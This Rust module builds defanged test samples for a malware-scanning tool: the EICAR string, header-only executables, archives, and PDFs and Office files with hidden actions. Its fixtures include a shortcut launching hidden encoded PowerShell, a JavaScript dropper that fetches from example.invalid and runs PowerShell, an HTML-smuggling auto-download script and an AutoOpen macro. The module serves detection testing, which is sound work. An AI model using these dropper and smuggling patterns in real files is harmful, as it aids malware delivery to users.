//! Generators for harmless samples. Nothing here is malware: "executables"
//! are headers with no code, the only signature is the EICAR test string,
//! and bombs are made of zeros. Every sample names the verdict it must get
//! with the bundled rules and default policy; tests assert each one.
//!
//! The EICAR string is assembled at run time from two halves so no source
//! file holds it whole (desktop antivirus would quarantine the repository).

use crate::model::{Action, InputKind};
use std::io::Write;

pub fn eicar() -> Vec<u8> {
    let head = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
    let tail = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    format!("{head}{tail}").into_bytes()
}

/// A harmless sample and what it must produce.
#[derive(Debug, Clone)]
pub struct Sample {
    /// File name, also the test's name.
    pub name: String,
    pub kind: InputKind,
    pub data: Vec<u8>,
    pub expect: Action,
    /// Finding names (rule names or built-in kinds) that must be present.
    pub must_find: Vec<&'static str>,
    pub about: &'static str,
}

fn sample(
    name: &str,
    kind: InputKind,
    data: Vec<u8>,
    expect: Action,
    must_find: &[&'static str],
    about: &'static str,
) -> Sample {
    Sample {
        name: name.to_string(),
        kind,
        data,
        expect,
        must_find: must_find.to_vec(),
        about,
    }
}

/// A PE header and nothing else: detected as PE, runs nothing.
pub fn fake_pe() -> Vec<u8> {
    let mut pe = vec![0u8; 512];
    pe[0..2].copy_from_slice(b"MZ");
    pe[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes()); // i386
    pe[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    pe
}

pub fn fake_elf() -> Vec<u8> {
    let mut elf = vec![0u8; 128];
    elf[0..4].copy_from_slice(b"\x7fELF");
    elf[4] = 2; // 64-bit
    elf[5] = 1; // little endian
    elf[6] = 1;
    elf[16] = 2; // ET_EXEC
    elf[18] = 0x3e; // x86-64
    elf
}

/// A Windows shortcut header whose arguments start PowerShell. The target
/// is a string; nothing can run.
pub fn fake_lnk() -> Vec<u8> {
    let mut lnk = vec![
        0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
    ];
    lnk.resize(76, 0);
    for s in [
        "C:\\Windows\\System32\\cmd.exe",
        " /c powershell -w hidden -enc SQBFAFgA",
    ] {
        for u in s.encode_utf16() {
            lnk.extend_from_slice(&u.to_le_bytes());
        }
    }
    lnk
}

/// A .docx whose settings relationships load its template from a URL
/// (`external = true`), or from inside the package (`false`).
pub fn docx_with_template(external: bool) -> Vec<u8> {
    let rel = if external {
        r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/t.dotm" TargetMode="External"/>"#
    } else {
        r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="templates/t.dotx"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>"#
    };
    let rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>"#
    );
    zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        ("word/settings.xml", b"<w:settings/>"),
        ("word/_rels/settings.xml.rels", rels.as_bytes()),
    ])
}

/// A Windows shortcut as Explorer writes one: LinkInfo with the target's
/// local path, working directory and arguments as UTF-16 StringData, and
/// an environment-variable block with the target under `%windir%`.
pub fn lnk(target: &str, arguments: &str, working_dir: &str) -> Vec<u8> {
    let mut d = vec![
        0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
    ];
    // HasLinkInfo | HasWorkingDir | HasArguments | IsUnicode | HasExpString
    d.extend_from_slice(&(0x2u32 | 0x10 | 0x20 | 0x80 | 0x200).to_le_bytes());
    d.resize(76, 0);
    let mut info = Vec::new();
    let volume: Vec<u8> = [0x11u32, 3, 0x1234_5678, 0x10]
        .iter()
        .flat_map(|v| v.to_le_bytes())
        .chain([0u8])
        .collect();
    let base_off = 0x1c + volume.len();
    let suffix_off = base_off + target.len() + 1;
    let size = suffix_off + 1;
    for v in [size, 0x1c, 1, 0x1c, base_off, 0, suffix_off] {
        info.extend_from_slice(&(v as u32).to_le_bytes());
    }
    info.extend_from_slice(&volume);
    info.extend_from_slice(target.as_bytes());
    info.extend_from_slice(&[0, 0]);
    d.extend_from_slice(&info);
    for s in [working_dir, arguments] {
        let units: Vec<u16> = s.encode_utf16().collect();
        d.extend_from_slice(&(units.len() as u16).to_le_bytes());
        for u in units {
            d.extend_from_slice(&u.to_le_bytes());
        }
    }
    let env = target.replacen("C:\\Windows", "%windir%", 1);
    let mut block = vec![0u8; 0x314];
    block[0..4].copy_from_slice(&0x314u32.to_le_bytes());
    block[4..8].copy_from_slice(&0xa000_0001u32.to_le_bytes());
    block[8..8 + env.len().min(259)].copy_from_slice(&env.as_bytes()[..env.len().min(259)]);
    for (i, u) in env.encode_utf16().take(259).enumerate() {
        block[268 + i * 2..270 + i * 2].copy_from_slice(&u.to_le_bytes());
    }
    d.extend_from_slice(&block);
    d.extend_from_slice(&[0, 0, 0, 0]);
    d
}

/// An ISO 9660 volume descriptor at 0x8001 and no files.
pub fn fake_iso() -> Vec<u8> {
    let mut iso = vec![0u8; 0x8800];
    iso[0x8000] = 1;
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    iso[0x8006] = 1;
    iso
}

/// A minimal valid PDF with text only.
pub fn clean_pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".to_vec()
}

/// A PDF with `file` as an embedded file (FlateDecode), and, when given,
/// an object stream (FlateDecode) holding one more object with `hidden`
/// in its dictionary: where /OpenAction or /JavaScript hide from a scan of
/// the raw bytes.
pub fn pdf_with(file: &[u8], hidden: Option<&str>) -> Vec<u8> {
    use std::io::Write;
    let deflate = |data: &[u8]| {
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(data).expect("deflate to memory");
        z.finish().expect("deflate to memory")
    };
    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    pdf.extend_from_slice(b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(attachment.bin) 4 0 R]>>>>>>\nendobj\n");
    pdf.extend_from_slice(b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n");
    pdf.extend_from_slice(b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\n");
    pdf.extend_from_slice(
        b"4 0 obj\n<</Type/Filespec/F(attachment.bin)/EF<</F 5 0 R>>>>\nendobj\n",
    );
    let packed = deflate(file);
    pdf.extend_from_slice(
        format!(
            "5 0 obj\n<</Type/EmbeddedFile/Filter/FlateDecode/Length {}>>\nstream\n",
            packed.len()
        )
        .as_bytes(),
    );
    pdf.extend_from_slice(&packed);
    pdf.extend_from_slice(b"\nendstream\nendobj\n");
    if let Some(hidden) = hidden {
        let objects = format!("7 0 <</Type/Action/S/JavaScript/JS(app.alert(1)) {hidden}>>");
        let packed = deflate(objects.as_bytes());
        pdf.extend_from_slice(
            format!(
                "6 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {}>>\nstream\r\n",
                packed.len()
            )
            .as_bytes(),
        );
        pdf.extend_from_slice(&packed);
        pdf.extend_from_slice(b"\r\nendstream\nendobj\n");
    }
    pdf.extend_from_slice(b"trailer\n<</Root 1 0 R>>\n%%EOF\n");
    pdf
}

/// A TNEF stream (winmail.dat) carrying `files`: a message class, then per
/// file attAttachRendData, attAttachTitle and attAttachData.
pub fn tnef(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = crate::extract::TNEF_SIGNATURE.to_vec();
    out.extend_from_slice(&0x1234u16.to_le_bytes());
    let attr = |out: &mut Vec<u8>, level: u8, id: u32, value: &[u8]| {
        out.push(level);
        out.extend_from_slice(&id.to_le_bytes());
        out.extend_from_slice(&(value.len() as u32).to_le_bytes());
        out.extend_from_slice(value);
        let sum = value
            .iter()
            .fold(0u16, |a, &b| a.wrapping_add(u16::from(b)));
        out.extend_from_slice(&sum.to_le_bytes());
    };
    attr(&mut out, 1, 0x0007_8008, b"IPM.Microsoft Mail.Note\0");
    for (name, data) in files {
        attr(
            &mut out,
            2,
            0x0006_9002,
            &[1, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0],
        );
        attr(&mut out, 2, 0x0001_8010, &[name.as_bytes(), b"\0"].concat());
        attr(&mut out, 2, 0x0006_800f, data);
    }
    out
}

/// A 1x1 PNG.
pub fn png() -> Vec<u8> {
    vec![
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0,
        0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49, 0x44,
        0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0, 0, 0,
        0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ]
}

/// A stand-in for a macro project: the OLE2 signature and the strings an
/// auto-exec VBA module leaves in `vbaProject.bin`. Not a valid compound
/// file and no code: it exercises the raw-string path of the macro rule.
pub fn fake_vba_project() -> Vec<u8> {
    let mut v = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    v.resize(512, 0);
    for s in ["_VBA_PROJECT", "dir", "ThisDocument"] {
        for u in s.encode_utf16() {
            v.extend_from_slice(&u.to_le_bytes());
        }
    }
    v.extend_from_slice(b"\x00Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  MsgBox \"harmless\"\r\nEnd Sub\r\n");
    v
}

pub const HTML_SMUGGLING: &str = r#"<!DOCTYPE html><html><body><script>
var b64 = "UEsDBAoAAAAAAA==";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
a.download = "invoice.zip"; document.body.appendChild(a); a.click();
</script></body></html>"#;

pub const JS_DROPPER: &str = "var sh = new ActiveXObject(\"WScript.Shell\");\nvar x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nx.open(\"GET\", \"http://example.invalid/a\", false);\nsh.Run(\"powershell -nop -w hidden -c calc\", 0);\n";

// ---------------------------------------------------------------- containers

/// Zip via the zip crate (deflate), entries in order.
pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, data) in entries {
            // Writing to memory cannot fail short of allocation failure.
            w.start_file(*name, opts).expect("zip to memory");
            w.write_all(data).expect("zip to memory");
        }
        w.finish().expect("zip to memory");
    }
    out.into_inner()
}

/// Zip with each entry compressed by its own method.
pub fn zip_methods(entries: &[(&str, zip::CompressionMethod, &[u8])]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        for (name, method, data) in entries {
            let opts = zip::write::SimpleFileOptions::default().compression_method(*method);
            w.start_file(*name, opts).expect("zip to memory");
            w.write_all(data).expect("zip to memory");
        }
        w.finish().expect("zip to memory");
    }
    out.into_inner()
}

/// One raw zip entry for hand-built archives.
pub struct RawEntry<'a> {
    pub local_name: &'a str,
    pub central_name: &'a str,
    pub data: &'a [u8],
    pub encrypted: bool,
    /// Point the central entry at an earlier entry's local header.
    pub reuse_local_of: Option<usize>,
}

/// A stored (uncompressed) zip written byte by byte, so samples can lie in
/// ways the zip crate's writer refuses to: names that differ between local
/// and central headers, entries sharing data, encryption flags.
pub fn raw_zip(entries: &[RawEntry<'_>]) -> Vec<u8> {
    let stored: Vec<Stored<'_>> = entries
        .iter()
        .map(|e| Stored {
            local_name: e.local_name,
            central_name: e.central_name,
            payload: e.data.to_vec(),
            crc: crc32(e.data),
            plain_len: e.data.len() as u32,
            encrypted: e.encrypted,
            reuse_local_of: e.reuse_local_of,
        })
        .collect();
    stored_zip(&stored)
}

/// A stored zip whose entries are encrypted with the traditional PKWARE
/// cipher ("ZipCrypto"), which 7-Zip and Info-ZIP still write by default.
pub fn zipcrypto_zip(entries: &[(&str, &[u8])], password: &str) -> Vec<u8> {
    let stored: Vec<Stored<'_>> = entries
        .iter()
        .enumerate()
        .map(|(i, (name, data))| {
            let crc = crc32(data);
            let mut keys = ZipCryptoKeys::new(password.as_bytes());
            // 11 bytes a real writer draws at random, then the CRC's high
            // byte, which readers use to reject most wrong passwords.
            let mut header: Vec<u8> = (0..11u8)
                .map(|b| b.wrapping_mul(37).wrapping_add(i as u8))
                .collect();
            header.push((crc >> 24) as u8);
            let payload = header
                .iter()
                .chain(data.iter())
                .map(|&b| keys.encrypt(b))
                .collect();
            Stored {
                local_name: name,
                central_name: name,
                payload,
                crc,
                plain_len: data.len() as u32,
                encrypted: true,
                reuse_local_of: None,
            }
        })
        .collect();
    stored_zip(&stored)
}

struct ZipCryptoKeys([u32; 3]);

impl ZipCryptoKeys {
    fn new(password: &[u8]) -> Self {
        let mut k = ZipCryptoKeys([0x1234_5678, 0x2345_6789, 0x3456_7890]);
        for &b in password {
            k.update(b);
        }
        k
    }

    fn crc_byte(crc: u32, b: u8) -> u32 {
        let mut c = (crc ^ b as u32) & 0xff;
        for _ in 0..8 {
            c = if c & 1 != 0 {
                (c >> 1) ^ 0xedb8_8320
            } else {
                c >> 1
            };
        }
        c ^ (crc >> 8)
    }

    fn update(&mut self, b: u8) {
        self.0[0] = Self::crc_byte(self.0[0], b);
        self.0[1] = self.0[1]
            .wrapping_add(self.0[0] & 0xff)
            .wrapping_mul(134_775_813)
            .wrapping_add(1);
        self.0[2] = Self::crc_byte(self.0[2], (self.0[1] >> 24) as u8);
    }

    fn encrypt(&mut self, plain: u8) -> u8 {
        let t = (self.0[2] | 2) as u16;
        let stream = (t.wrapping_mul(t ^ 1) >> 8) as u8;
        self.update(plain);
        plain ^ stream
    }
}

struct Stored<'a> {
    local_name: &'a str,
    central_name: &'a str,
    payload: Vec<u8>,
    crc: u32,
    plain_len: u32,
    encrypted: bool,
    reuse_local_of: Option<usize>,
}

fn stored_zip(entries: &[Stored<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut offsets = Vec::new();
    for e in entries {
        let flags: u16 = if e.encrypted { 1 } else { 0 };
        offsets.push(out.len() as u32);
        if e.reuse_local_of.is_some() {
            continue;
        }
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&flags.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes()); // stored
        out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
        out.extend_from_slice(&e.crc.to_le_bytes());
        out.extend_from_slice(&(e.payload.len() as u32).to_le_bytes());
        out.extend_from_slice(&e.plain_len.to_le_bytes());
        out.extend_from_slice(&(e.local_name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(e.local_name.as_bytes());
        out.extend_from_slice(&e.payload);
    }
    let cd_start = out.len() as u32;
    for (i, e) in entries.iter().enumerate() {
        let flags: u16 = if e.encrypted { 1 } else { 0 };
        let offset = e.reuse_local_of.map_or(offsets[i], |j| offsets[j]);
        out.extend_from_slice(b"PK\x01\x02");
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&flags.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&[0, 0, 0x21, 0]);
        out.extend_from_slice(&e.crc.to_le_bytes());
        out.extend_from_slice(&(e.payload.len() as u32).to_le_bytes());
        out.extend_from_slice(&e.plain_len.to_le_bytes());
        out.extend_from_slice(&(e.central_name.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0; 8]); // extra, comment, disk, internal attrs
        out.extend_from_slice(&[0; 4]); // external attrs
        out.extend_from_slice(&offset.to_le_bytes());
        out.extend_from_slice(e.central_name.as_bytes());
    }
    let cd_len = out.len() as u32 - cd_start;
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&cd_len.to_le_bytes());
    out.extend_from_slice(&cd_start.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// A Windows cabinet with one folder compressed by `method`.
pub fn cabinet(files: &[(&str, &[u8])], method: cab::CompressionType) -> Vec<u8> {
    let when = time::PrimitiveDateTime::new(
        time::Date::from_calendar_date(2024, time::Month::January, 2).expect("valid date"),
        time::Time::MIDNIGHT,
    );
    let mut builder = cab::CabinetBuilder::new();
    let folder = builder.add_folder(method);
    for (name, _) in files {
        folder.add_file(*name).set_datetime(when);
    }
    let mut writer = builder
        .build(std::io::Cursor::new(Vec::new()))
        .expect("cab to memory");
    let mut i = 0;
    while let Some(mut file) = writer.next_file().expect("cab to memory") {
        file.write_all(files[i].1).expect("cab to memory");
        i += 1;
    }
    writer.finish().expect("cab to memory").into_inner()
}

/// A 7z archive (LZMA2), optionally solid, optionally AES-256 encrypted
/// with `(password, encrypt_header)`. Fixed salt and IV: deterministic.
pub fn sevenz(files: &[(&str, &[u8])], password: Option<(&str, bool)>, solid: bool) -> Vec<u8> {
    use sevenz_rust2::encoder_options::{AesEncoderOptions, Lzma2Options};
    use sevenz_rust2::{ArchiveEntry, ArchiveWriter, Password};
    let mut w = ArchiveWriter::new(std::io::Cursor::new(Vec::new())).expect("7z to memory");
    let mut methods = Vec::new();
    if let Some((pw, _)) = password {
        methods.push(
            AesEncoderOptions {
                password: Password::from(pw),
                iv: [3; 16],
                salt: [5; 16],
                // 7-Zip uses 19 (half a million SHA-256 rounds); samples
                // are made and opened in tests many times over.
                num_cycles_power: 12,
            }
            .into(),
        );
    }
    methods.push(Lzma2Options::from_level(6).into());
    w.set_content_methods(methods);
    w.set_encrypt_header(password.is_some_and(|(_, header)| header));
    if solid {
        let entries = files
            .iter()
            .map(|(n, _)| ArchiveEntry::new_file(n))
            .collect();
        let readers = files
            .iter()
            .map(|(_, d)| sevenz_rust2::SourceReader::new(*d))
            .collect();
        w.push_archive_entries(entries, readers)
            .expect("7z to memory");
    } else {
        for (name, data) in files {
            w.push_archive_entry(ArchiveEntry::new_file(name), Some(*data))
                .expect("7z to memory");
        }
    }
    w.finish().expect("7z to memory").into_inner()
}

/// A RAR 4 archive whose one entry claims method 0x33 (compressed): its
/// name is listed, its content cannot be read (no permissive RAR decoder).
pub fn rar4_compressed(name: &str, data: &[u8]) -> Vec<u8> {
    let mut rar = crate::extract::rar_stored(&[(name, data)], false);
    // MARK_HEAD (7) + MAIN_HEAD (13), then FILE_HEAD: method at +25.
    let method = 7 + 13 + 25;
    rar[method] = 0x33;
    let size = u16::from_le_bytes([rar[7 + 13 + 5], rar[7 + 13 + 6]]) as usize;
    let crc = crc32(&rar[7 + 13 + 2..7 + 13 + size]) as u16;
    rar[7 + 13..7 + 13 + 2].copy_from_slice(&crc.to_le_bytes());
    rar
}

/// An Office document encrypted the way Office 2010+ does it (agile,
/// AES-256, SHA-512, 100 000 rounds): an OLE2 file with EncryptionInfo
/// and EncryptedPackage around the `package` zip.
pub fn encrypted_docx(package: &[u8], password: &str) -> Vec<u8> {
    let (info, encrypted) = crate::extract::office_encrypt(package, password);
    let mut cf = new_cf();
    put_stream(&mut cf, "/EncryptionInfo", &info);
    put_stream(&mut cf, "/EncryptedPackage", &encrypted);
    finish_cf(cf)
}

/// A zip whose entries are AES-256 encrypted (WinZip AE-2), as WinZip,
/// WinRAR and 7-Zip's "AES-256" option write. Fixed salt: samples are
/// deterministic.
pub fn aes_zip(entries: &[(&str, &[u8])], password: &str) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        for (name, data) in entries {
            let opts = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated)
                .with_aes_encryption_and_salt(password.as_bytes(), zip::AesSalt::Aes256([7u8; 16]));
            w.start_file(*name, opts).expect("zip to memory");
            w.write_all(data).expect("zip to memory");
        }
        w.finish().expect("zip to memory");
    }
    out.into_inner()
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= b as u32;
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

pub fn gzip(name: &str, data: &[u8]) -> Vec<u8> {
    let mut e = flate2::GzBuilder::new()
        .filename(name)
        .write(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gzip to memory");
    e.finish().expect("gzip to memory")
}

pub fn bzip2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    e.write_all(data).expect("bzip2 to memory");
    e.finish().expect("bzip2 to memory")
}

pub fn xz(data: &[u8]) -> Vec<u8> {
    let mut w = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6))
        .expect("xz to memory");
    w.write_all(data).expect("xz to memory");
    w.finish().expect("xz to memory")
}

pub fn zstd(data: &[u8]) -> Vec<u8> {
    zstd::stream::encode_all(data, 3).expect("zstd to memory")
}

pub fn tar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in entries {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).expect("tar to memory");
    }
    b.into_inner().expect("tar to memory")
}

/// cpio, "new" ASCII format (070701): regular files, then the trailer.
pub fn cpio_newc(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let pad4 = |out: &mut Vec<u8>| {
        while !out.len().is_multiple_of(4) {
            out.push(0);
        }
    };
    let trailer: (&str, &[u8]) = ("TRAILER!!!", b"");
    for (i, (name, data)) in entries.iter().chain([&trailer]).enumerate() {
        let mode = if *name == "TRAILER!!!" { 0 } else { 0o100644 };
        out.extend_from_slice(
            format!(
                "070701{:08X}{mode:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}{:08X}",
                i + 1,
                0,
                0,
                1,
                0,
                data.len(),
                0,
                0,
                0,
                0,
                name.len() + 1,
                0
            )
            .as_bytes(),
        );
        out.extend_from_slice(name.as_bytes());
        out.push(0);
        pad4(&mut out);
        out.extend_from_slice(data);
        pad4(&mut out);
    }
    out
}

/// cpio, old portable ASCII format (070707, octal fields, no padding).
pub fn cpio_odc(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let trailer: (&str, &[u8]) = ("TRAILER!!!", b"");
    for (name, data) in entries.iter().chain([&trailer]) {
        let mode = if *name == "TRAILER!!!" { 0 } else { 0o100644 };
        out.extend_from_slice(
            format!(
                "070707{:06o}{:06o}{mode:06o}{:06o}{:06o}{:06o}{:06o}{:011o}{:06o}{:011o}",
                0,
                0,
                0,
                0,
                1,
                0,
                0,
                name.len() + 1,
                data.len()
            )
            .as_bytes(),
        );
        out.extend_from_slice(name.as_bytes());
        out.push(0);
        out.extend_from_slice(data);
    }
    out
}

/// cpio, old binary format, little- or big-endian 16-bit words.
pub fn cpio_binary(entries: &[(&str, &[u8])], little_endian: bool) -> Vec<u8> {
    let mut out = Vec::new();
    let trailer: (&str, &[u8]) = ("TRAILER!!!", b"");
    for (name, data) in entries.iter().chain([&trailer]) {
        let mode: u16 = if *name == "TRAILER!!!" { 0 } else { 0o100644 };
        let size = data.len() as u32;
        let words: [u16; 13] = [
            0o070707,
            0,
            0,
            mode,
            0,
            0,
            1,
            0,
            0,
            0,
            (name.len() + 1) as u16,
            (size >> 16) as u16,
            size as u16,
        ];
        for w in words {
            out.extend_from_slice(&if little_endian {
                w.to_le_bytes()
            } else {
                w.to_be_bytes()
            });
        }
        out.extend_from_slice(name.as_bytes());
        out.push(0);
        if !out.len().is_multiple_of(2) {
            out.push(0);
        }
        out.extend_from_slice(data);
        if !out.len().is_multiple_of(2) {
            out.push(0);
        }
    }
    out
}

fn ar_header(out: &mut Vec<u8>, name: &str, size: usize) {
    out.extend_from_slice(
        format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{size:<10}`\n", 0, 0, 0, 644).as_bytes(),
    );
}

fn ar_data(out: &mut Vec<u8>, data: &[u8]) {
    out.extend_from_slice(data);
    if !data.len().is_multiple_of(2) {
        out.push(b'\n');
    }
}

/// ar, GNU flavour: names over 15 bytes go to the `//` table.
pub fn ar_gnu(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = crate::extract::AR_MAGIC.to_vec();
    let mut table = String::new();
    let mut refs = Vec::new();
    for (name, _) in entries {
        if name.len() > 15 {
            refs.push(Some(table.len()));
            table.push_str(&format!("{name}/\n"));
        } else {
            refs.push(None);
        }
    }
    if !table.is_empty() {
        ar_header(&mut out, "//", table.len());
        ar_data(&mut out, table.as_bytes());
    }
    for ((name, data), r) in entries.iter().zip(refs) {
        let field = match r {
            Some(off) => format!("/{off}"),
            None => format!("{name}/"),
        };
        ar_header(&mut out, &field, data.len());
        ar_data(&mut out, data);
    }
    out
}

/// ar, BSD flavour: every name as `#1/LEN` before the data.
pub fn ar_bsd(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = crate::extract::AR_MAGIC.to_vec();
    for (name, data) in entries {
        ar_header(
            &mut out,
            &format!("#1/{}", name.len()),
            name.len() + data.len(),
        );
        ar_data(&mut out, &[name.as_bytes(), data].concat());
    }
    out
}

/// A Windows Packager object's native data (the `Ole10Native` layout,
/// without its leading size): label, source path, temporary path, file.
pub fn packager_native(name: &str, data: &[u8]) -> Vec<u8> {
    let mut native = vec![2u8, 0];
    for s in [name, &format!("C:\\Users\\a\\{name}")] {
        native.extend_from_slice(s.as_bytes());
        native.push(0);
    }
    native.extend_from_slice(&[0, 0, 3, 0]);
    let tmp = format!("C:\\Temp\\{name}\0");
    native.extend_from_slice(&(tmp.len() as u32).to_le_bytes());
    native.extend_from_slice(tmp.as_bytes());
    native.extend_from_slice(&(data.len() as u32).to_le_bytes());
    native.extend_from_slice(data);
    native
}

/// MS-OVBA compression with literal tokens only: valid for any reader,
/// just not smaller. Chunks of 3640 bytes so each fits a compressed chunk
/// (a literal-only chunk carries one flag byte per eight bytes).
pub fn ovba_compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x01];
    for chunk in data.chunks(3640) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(group);
        }
        let header = 0x8000u16 | 0x3000 | (body.len() as u16 + 2 - 3);
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

type Cf = cfb::CompoundFile<std::io::Cursor<Vec<u8>>>;

fn put_stream(cf: &mut Cf, path: &str, data: &[u8]) {
    use std::io::Write;
    cf.create_stream(path)
        .expect("stream")
        .write_all(data)
        .expect("write");
}

/// A VBA project's storage under `root` ("/Macros" in a .doc, "" in an
/// OOXML vbaProject.bin): `_VBA_PROJECT`, `dir`, and each module as a
/// little p-code followed by its compressed source, as Office writes them.
fn put_vba(cf: &mut Cf, root: &str, modules: &[(&str, &str)]) {
    cf.create_storage_all(format!("{root}/VBA"))
        .expect("storage");
    put_stream(
        cf,
        &format!("{root}/VBA/_VBA_PROJECT"),
        &[0xcc, 0x61, 0xff, 0xff, 0, 0, 0],
    );
    put_stream(
        cf,
        &format!("{root}/VBA/dir"),
        &ovba_compress(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00"),
    );
    for (name, source) in modules {
        let mut stream = vec![0x01, 0x16, 0x03, 0x00];
        stream.extend_from_slice(&[0u8; 60]);
        stream.extend_from_slice(&ovba_compress(source.as_bytes()));
        put_stream(cf, &format!("{root}/VBA/{name}"), &stream);
    }
}

fn new_cf() -> Cf {
    cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("cfb in memory")
}

fn finish_cf(mut cf: Cf) -> Vec<u8> {
    cf.flush().expect("flush");
    cf.into_inner().into_inner()
}

/// A Word-like compound file: a WordDocument stream, a VBA project with
/// the given modules, and optionally a Packager object carrying a file.
pub fn ole_document(modules: &[(&str, &str)], package: Option<(&str, &[u8])>) -> Vec<u8> {
    let mut cf = new_cf();
    put_stream(
        &mut cf,
        "/WordDocument",
        &[0xec, 0xa5, 0xc1, 0x00, 1, 2, 3, 4],
    );
    put_vba(&mut cf, "/Macros", modules);
